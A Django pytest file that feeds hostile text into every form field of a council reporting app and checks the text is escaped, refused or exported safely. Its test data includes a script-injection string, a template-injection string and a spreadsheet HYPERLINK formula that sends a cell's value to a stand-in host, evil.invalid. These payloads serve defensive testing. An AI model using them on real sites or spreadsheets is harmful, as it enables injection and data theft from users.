"""Hostile texts in every box for text: kept unchanged or refused with the reason, never a 500."""

import io
import subprocess
from urllib.parse import quote

import openpyxl
import pytest

from boards.roles import Role
from tests.builders import make_line, make_metric, make_quarter, make_user, report_line
from tests.reports.text_builders import make_sections
from tests.schemes.plan_builders import make_action, make_risk, make_section
from tests.test_checks_saving import Form

pytestmark = pytest.mark.django_db
PAGE = "/northshire/2023-24-q3/"
REFUSED = {
    "nul": "a\x00b",
    "control": "a\x01b",
    "vertical tab": "a\x0bb",
    "escape": "a\x1bb",
    "noncharacter": "a\ufffeb",
    "last noncharacter": "a\U0010ffffb",
}
KEPT = {
    "right to left override": "a\u202eb",
    "zero width joiner": "a\u200db",
    "byte order mark": "a\ufeffb",
    "marks": "a" + "\u0301" * 1000,
    "emoji": "👩🏽\u200d⚕️ 🏳️\u200d🌈",
    "composed": "é",
    "decomposed": "e\u0301",
    "look-alike": "Reаblement",
    "dotted capital": "İstanbul",
    "four bytes": "𠜎𠜱",
    "ligature": "ﷺ",
    "mathematical digits": "𝟏𝟐𝟑",
    "markup": '"><script>x</script>',
    "template": "{{ 7|add:7 }} {% now %}",
    "formula": '=HYPERLINK("http://evil.invalid/?"&B2,"x")',
    "replacement": "a\ufffdb",
}
RISK = {"likelihood": "2", "impact": "3"}
# Each box for text: its page, its name, and what else its form needs.
BOXES = {
    "comment of a measure": ("metrics/falls/", "comment", {"state": "NOT_APPLICABLE"}),
    "action on a measure": ("metrics/falls/", "mitigation", {"state": "NOT_APPLICABLE"}),
    "explanation": ("spending/differences/", "explanation-{line}", {}),
    "effect": ("spending/differences/", "effect-{line}", {}),
    "summary": ("plan/nc2/", "summary", {}),
    "action": ("plan/nc2/actions/", "NC2-1-progress", {}),
    "risk": ("risks/R1/", "comment", RISK),
    "commentary": ("commentary/recommendations/", "body", {"is_complete": "no"}),
    "internal comment": ("comments/spending/", "text", {}),
}


@pytest.fixture
def line():
    quarter = make_quarter()
    make_metric(quarter, "falls")
    make_action(make_section(quarter, "nc2"))
    make_risk(quarter)
    make_sections(quarter)
    line = make_line(quarter)
    report_line(quarter, line, forecast="30000")
    return line


@pytest.fixture
def officer(client, line):
    board = line.scheme.board
    client.force_login(make_user(board, Role.FINANCE_OFFICER, of="COUNCIL"))
    return client


def send(client, line, box, text):
    """The answer to a form with the text in one box, and the page that comes after it."""
    page, name, others = BOXES[box]
    shown = Form(client.get(PAGE + page)).boxes
    answer = client.post(PAGE + page, shown | others | {name.format(line=line.pk): text})
    return answer, client.get(PAGE + page)


@pytest.mark.check(39)
@pytest.mark.parametrize("box", BOXES)
@pytest.mark.parametrize("text", KEPT.values(), ids=KEPT)
def test_a_hostile_text_that_can_be_printed_is_kept_and_shown_as_it_was_typed(
    officer, line, box, text
):
    answer, page = send(officer, line, box, text)

    assert answer.status_code == 302, answer.content.decode()
    shown = page.content.decode()
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    assert escaped.replace('"', "&quot;").replace("'", "&#x27;") in shown
    assert "<script>x" not in shown


@pytest.mark.check(39)
@pytest.mark.parametrize("box", BOXES)
@pytest.mark.parametrize("text", REFUSED.values(), ids=REFUSED)
def test_a_text_that_cannot_be_printed_is_refused_with_the_reason(officer, line, box, text):
    answer, page = send(officer, line, box, text)

    assert answer.status_code == 200
    said = answer.content.decode()
    assert f"must not contain the character U+{ord(text[1]):04X}" in said
    assert "There is a problem" in said
    assert text not in page.content.decode()


@pytest.mark.check(39)
@pytest.mark.parametrize("text", [*KEPT.values(), *REFUSED.values()], ids=[*KEPT, *REFUSED])
def test_a_hostile_text_in_an_address_is_no_failure(officer, text):
    for query in ("text", "led_by", "stream", "page", "mine", "publish_day", "draft"):
        for page in ("", "spending/", "dates/", "metrics/falls/"):
            answer = officer.get(f"{PAGE}{page}?{query}={quote(text)}")
            assert answer.status_code == 200
            assert "<script>x" not in answer.content.decode()


@pytest.mark.check(39)
def test_half_a_character_is_no_failure(officer):
    for box in ("state=NOT_APPLICABLE&comment=%ED%A0%80", "state=NOT_APPLICABLE&comment=%FF%FE"):
        form = "application/x-www-form-urlencoded"
        answer = officer.post(PAGE + "metrics/falls/", box, content_type=form)
        assert answer.status_code in {200, 302, 409}


@pytest.mark.check(39)
@pytest.mark.xdist_group("paper")
def test_hostile_texts_go_out_in_workbook_and_paper(officer, line):
    text = "\n".join(KEPT.values())
    for box in BOXES:
        assert send(officer, line, box, text)[0].status_code == 302

    workbook = officer.get(PAGE + "expenditure.xlsx")
    paper = officer.get(PAGE + "paper.pdf")

    cells = [
        cell.value
        for sheet in openpyxl.load_workbook(io.BytesIO(workbook.content))
        for row in sheet.iter_rows()
        for cell in row
    ]
    assert text in cells
    assert paper.status_code == 200
    printed = subprocess.run(
        ["pdftotext", "-", "-"], input=paper.content, capture_output=True, check=True
    ).stdout.decode()
    assert '"><script>x</script>' in printed
    assert "{{ 7|add:7 }}" in printed
